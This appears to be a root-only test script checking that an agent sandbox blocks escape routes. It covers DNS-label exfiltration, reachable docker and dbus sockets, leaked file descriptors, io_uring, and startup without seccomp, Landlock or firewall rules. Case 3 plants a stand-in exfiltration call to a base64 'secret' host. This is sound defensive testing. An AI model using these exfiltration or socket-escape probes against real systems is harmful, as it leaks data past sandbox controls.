#!/usr/bin/env python3
"""Attacks that others have met, by the numbers they have with us: 3, 11, 14
and 22. By the real programs.

usage: cases.py BIN
"""
import json
import os
import pathlib
import shutil
import socket
import subprocess
import sys
import tempfile
import threading

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "drive"))
import harness  # noqa: E402
import procs  # noqa: E402
import ways_out  # noqa: E402
from harness import (Host, Skipped, as_account, check, equal,  # noqa: E402
                     mail, main, run, until)

BIN = harness.folder_of_programs()
ZONES = {"planner": {"kind": "planner", "max_sessions": 16},
         "mail": {"kind": "reader", "channel": "mail"}}  # as by default
SECONDS = 20


def in_namespace(script, *command):
    """In a network namespace with an interface that is not loopback."""
    return ["unshare", "--net", "--mount", "sh", "-c",
            "ip link set lo up\nip link add v0 type veth peer name v1\n"
            "ip link set v0 up\nip addr add 10.9.8.7/24 dev v0\n"
            + script + 'exec "$@"\n', "sh", *[str(word) for word in command]]


# Case 3: data out in looked-up names.

class Resolver:
    """Stands where a resolver would, and keeps what it is asked."""

    def __init__(self):
        self.heard = []
        self.sockets = []
        for family, place in ((socket.AF_INET, "0.0.0.0"),
                              (socket.AF_INET6, "::")):
            s = socket.socket(family, socket.SOCK_DGRAM)
            if family == socket.AF_INET6:
                s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
            s.bind((place, 53))
            self.sockets.append(s)
            threading.Thread(target=self.listen, args=(s,),
                             daemon=True).start()

    def listen(self, s):
        while True:
            self.heard.append(s.recvfrom(4096)[0])


def resolver_hears_nothing():
    """Runs in a network namespace of its own, see below."""
    resolver = Resolver()
    ask = ("import socket\ntry:\n socket.getaddrinfo('c2VjcmV0.test', 80)\n"
           "except OSError: pass\n"
           "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
           "s.sendto(b'label', ('127.0.0.1', 53))\n")
    subprocess.run([sys.executable, "-c", ask], timeout=60, check=False)
    until(lambda: resolver.heard, 5, "the control is heard")
    resolver.heard.clear()
    with ways_out.Ground(BIN / "inside") as ground:
        for role in ("planner", "reader", "worker"):
            lines, _, said = ground.run(role)
            check(lines.get("dns-label") in ("trapped",) or
                  lines.get("dns-label", "").startswith("refused"),
                  "%s: %r %s", role, lines.get("dns-label"), said)
    with Host(zones=ZONES) as host:
        host.start()
        host.attach_reader()
        rules = host.folder / "rules.json"
        rules.write_text(json.dumps({"version": 1, "rules": [], "otherwise": [
            {"call": "send_data", "arguments": {
                "url": "https://c2VjcmV0.test/"}}]}))
        host.attach("planner", *host.planner_command(rules))
        handle = host.deliver(mail("c2VjcmV0.test", "<https://c2VjcmV0.test>",
                                   "a@c2VjcmV0.test"))
        until(lambda: host.items()[handle]["state"] == "done", SECONDS,
              "the mail is done")
    check(not resolver.heard, "asked: %r", resolver.heard)


def case_3():
    with tempfile.NamedTemporaryFile("w", suffix=".conf") as conf:
        conf.write("nameserver 127.0.0.1\n")
        conf.flush()
        os.chmod(conf.name, 0o644)
        done = run(["unshare", "--net", "--mount", "sh", "-c",
                    "ip link set lo up\n"
                    "mount --bind '%s' /etc/resolv.conf\n"
                    "exec '%s' -B '%s' '%s' --case-3\n" % (
                        conf.name, sys.executable, __file__, BIN)],
                   seconds=120)
    check(done.returncode == 0, "%s%s", done.stdout.decode(),
          done.stderr.decode())


# Case 11: Unix sockets.

def case_11():
    """The one channel answers; nothing else that listens does."""
    with ways_out.Ground(BIN / "inside") as ground:
        for role in ("broker", "auditor", "file", "notify", "planner",
                     "reader", "worker", "filter"):
            lines, _, _ = ground.run(role)
            for name in ("unix-abstract", "unix-docker", "unix-dbus",
                         "unix-agent", "unix-operator", "old-unix-connects",
                         "old-unix-abstract"):
                check(lines[name] not in ("THROUGH", "MAY"), "%s: %s %s",
                      role, name, lines[name])
    with Host(zones=ZONES) as host:
        host.start()
        done = run([host.program("planner"), "call", "--channel",
                    "unix:" + host.socket("planner"), *as_account("planner"),
                    "file.list", "{}"])
        equal(done.returncode, 0, "the channel: %r" % done.stderr)


# Case 14: descriptors, io_uring.

def descriptors_of(pid):
    found = {}
    for name in os.listdir("/proc/%d/fd" % pid):
        try:
            found[int(name)] = os.readlink("/proc/%d/fd/%s" % (pid, name))
        except OSError:
            pass
    return found


def narrow_errors(pid):
    """Nothing can be read through the log, nor written but at its end."""
    try:
        info = pathlib.Path("/proc/%d/fdinfo/2" % pid).read_text()
        name = pathlib.Path("/proc/%d/comm" % pid).read_text()
    except FileNotFoundError:
        return
    flags = int(info.split("flags:")[1].split()[0], 8)
    if name.startswith("trizone"):
        equal(flags & (os.O_ACCMODE | os.O_APPEND), os.O_WRONLY | os.O_APPEND,
              "%s: flags of standard error" % name)


def case_14():
    with ways_out.Ground(BIN / "inside") as ground:
        for role in ("reader", "worker"):
            lines, _, _ = ground.run(role)
            equal(lines["passed-descriptor"], "trapped", role)
            check(lines["passed-and-read"] != "THROUGH", "%s keeps what is "
                  "passed", role)
            _, status, _ = ground.run(role, "io-uring")
            check(ways_out.killed(status), "%s: io_uring ended with %d", role,
                  status)
    secret = os.open(__file__, os.O_RDONLY)
    try:
        os.dup2(secret, 77, inheritable=True)
        with Host(zones=ZONES) as host:
            spawn = subprocess.Popen

            def careless(*arguments, **more):
                return spawn(*arguments, close_fds=False, **more)
            subprocess.Popen = careless
            try:
                host.start()
                host.attach_reader()
            finally:
                subprocess.Popen = spawn
            for pid in procs.descendants():
                narrow_errors(pid)
                for fd, target in descriptors_of(pid).items():
                    check(target != __file__, "%d has descriptor %d: %s", pid,
                          fd, target)
            check(len(procs.descendants()) >= 7, "who runs: %r",
                  procs.descendants())
    finally:
        os.close(77)
        os.close(secret)


# Case 22: a lock that is not there.

def ends_with(status, words, *command, **more):
    done = run(list(command), seconds=60, **more)
    check(done.returncode == status, "%r ended with %d: %s", command[-6:],
          done.returncode, done.stderr.decode()[-600:])
    text = done.stderr.decode()
    check(words in text, "says %r, wanted %r", text[-600:], words)


def planner_of(host, *before):
    return [*before, host.program("planner"), "run", "--channel",
            "unix:" + host.socket("planner"), "--rules",
            host.folder / "rules.json"]


def zones_do_not_start_with_a_network():
    """Namespaces refused, as container engines do: as an ordinary user, or
    where no rules are loaded, there is no start and none are loaded; those that
    are loaded are attested, and good enough."""
    deny = BIN / "deny"
    with Host(zones=ZONES) as host:
        (host.folder / "rules.json").write_text(
            '{"version":1,"rules":[],"otherwise":[]}')
        host.start()
        run_it = planner_of(host, deny, "unshare")
        ends_with(77, "does not start where there is a network",
                  *in_namespace("", "setpriv", "--reuid", "65534", "--regid",
                                "65534", "--clear-groups", "--inh-caps=-all",
                                deny, "unshare", host.program("planner"),
                                "run", "--channel", "stdio", "--rules",
                                host.folder / "rules.json"))
        hide = "".join(
            "[ ! -e %s ] || mount --bind /dev/null %s\n" % (path, path)
            for name in ("nft", "iptables-restore", "ip6tables-restore",
                         "iptables-save", "ip6tables-save")
            for folder in ("/usr/sbin", "/sbin", "/usr/bin", "/bin")
            for path in ["%s/%s" % (folder, name)])
        ends_with(77, "does not start where there is a network",
                  *in_namespace(hide, *run_it, *as_account("planner")))
        if not shutil.which("nft", path="/usr/sbin:/usr/bin:/sbin"):
            raise Skipped("no nft")
        done = run(in_namespace(
            "'%s' %s; nft list ruleset; exit 3\n" % (
                deny, " ".join("'%s'" % word for word in [
                    "unshare", *run_it[2:], *as_account("planner")]))))
        equal((done.returncode, done.stdout), (3, b""), "nothing is loaded")
        zone = host.attach("planner", *in_namespace(
            "'%s' firewall apply >&2\n" % host.program("planner"), deny, "unshare", host.program("planner"), "run", "--channel",
            "stdio", "--rules", host.folder / "rules.json",
            *as_account("planner")), respawn=False)
        until(lambda: "attestation" in host.zone_status("planner"), SECONDS,
              "a zone behind rules: %s" % host.log_text()[-800:])
        said = host.zone_status("planner")["attestation"]
        equal(said["network"], "dropped", "network")
        equal(said["firewall"], "nft", "backend")
        equal(said["interfaces"], 2, "interfaces")
        equal(len(said["rules"]), 64, "hash of the rules")
        check("namespaces" in said["gap"], "gap: %r", said["gap"])
        zone.terminate()


def locks_that_are_refused():
    """No list of system calls: no start. No Landlock: said, and a zone that
    requires it turned away."""
    deny = BIN / "deny"
    with Host(zones=dict(ZONES, mail=dict(ZONES["mail"],
                                          require=["landlock"]))) as host:
        rules = host.folder / "rules.json"
        rules.write_text('{"version":1,"rules":[],"otherwise":[]}')
        config = ["--config", host.config_path]
        ends_with(71, "list of system calls", deny, "seccomp",
                  host.program("executor"), "run", *config)
        ends_with(71, "cannot be given up", deny, "capset",
                  host.program("executor"), "run", *config)
        host.start()
        ends_with(71, "list of system calls", *planner_of(
            host, deny, "seccomp"), *as_account("planner"))
        ends_with(71, "list of system calls", deny, "seccomp",
                  host.program("reader"), "mail", data=mail("x"))
        ends_with(71, "Landlock", deny, "~landlock_restrict_self",
                  host.program("reader"), "mail", data=mail("x"))
        reader = host.attach("mail", deny, "landlock_create_ruleset",
                             *host.reader_command(), respawn=False)
        equal(reader.wait(SECONDS), 69, "a reader without Landlock")
        check("attests less" in host.log_text(), "it was not said why")
        host.attached.remove(reader)


def users_that_are_not_there():
    accounts = dict(harness.ACCOUNTS)
    for role, account, words in (
            ("broker", "trizone-nobody-at-all", "does not exist"),
            ("file", 1000, "number of a person"),
            ("file", harness.ACCOUNTS["broker"], "the same user")):
        with Host(accounts=dict(accounts, **{role: account})) as host:
            ends_with(78, words, host.program("executor"), "run", "--config",
                      host.config_path)
    with Host() as host:
        ends_with(78, "root", host.program("reader"), "run", "--channel",
                  "stdio", "--user", "0")


def user_namespaces_that_are_hollow():
    """They can be made, and then refuse what they are for, as AppArmor of
    Ubuntu has it: an ordinary user goes on with less, and is told."""
    folder = harness.short_folder()
    log = folder / "log"
    as_user = ["unshare", "--mount", "sh", "-c",
               "mount -o remount,bind,ro /proc && exec \"$@\"", "sh",
               "setpriv", "--reuid", "64830", "--regid", "64830",
               "--clear-groups", "--inh-caps=-all"]
    try:
        folder.chmod(0o777)
        executor = shutil.copy(BIN / "trizone-executor", folder)
        config = ["--config", folder / "etc" / "config.json"]
        ends_with(0, "", *as_user, executor, "init", "--dir", folder / "etc",
                  "--state", folder / "state", "--run", folder / "run")
        done = run([*as_user, executor, "doctor", *config], seconds=60)
        check(b"no namespaces of their own" in done.stdout, "doctor: %r",
              done.stdout)
        with log.open("wb") as out:
            service = subprocess.Popen(
                [str(word) for word in [*as_user, executor, "run", *config]],
                stderr=out)
        try:
            until(lambda: "ev=ready" in log.read_text(), SECONDS,
                  "ready: %s" % log.read_text()[-800:])
            check("user namespaces are restricted" in log.read_text(),
                  "not said: %s", log.read_text()[-800:])
        finally:
            service.terminate()
            service.wait(SECONDS)
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def a_way_out_that_is_open():
    """A probe that gets through ends the start: a program of the tests
    without its list of system calls."""
    layers = BIN.parent / "layers"
    if BIN.name != "bin" or not (layers / "trizone-executor").exists():
        raise Skipped("no folder layers beside the programs")
    with Host() as host:
        off = host.folder / "off-filter"
        off.mkdir()
        for name in ("executor", "planner", "reader"):
            shutil.copy(layers / ("trizone-" + name), off)
        ends_with(71, "must not", off / "trizone-executor", "run", "--config",
                  host.config_path)
        ends_with(71, "must not", off / "trizone-reader", "mail",
                  data=mail("x"))


def case_22(suite):
    for case in (zones_do_not_start_with_a_network, locks_that_are_refused,
                 users_that_are_not_there, user_namespaces_that_are_hollow,
                 a_way_out_that_is_open):
        suite.case("case 22: " + case.__name__.replace("_", " "), case)


def body(suite):
    if not harness.is_root() or not shutil.which("unshare") or not (
            BIN / "inside").exists():
        print("skipped: needs root and Linux")
        raise SystemExit(77)
    suite.case("case 3: names looked up", case_3)
    suite.case("case 11: Unix sockets", case_11)
    suite.case("case 14: descriptors and io_uring", case_14)
    case_22(suite)


if __name__ == "__main__":
    if "--case-3" in sys.argv:
        resolver_hears_nothing()
    else:
        main(body)
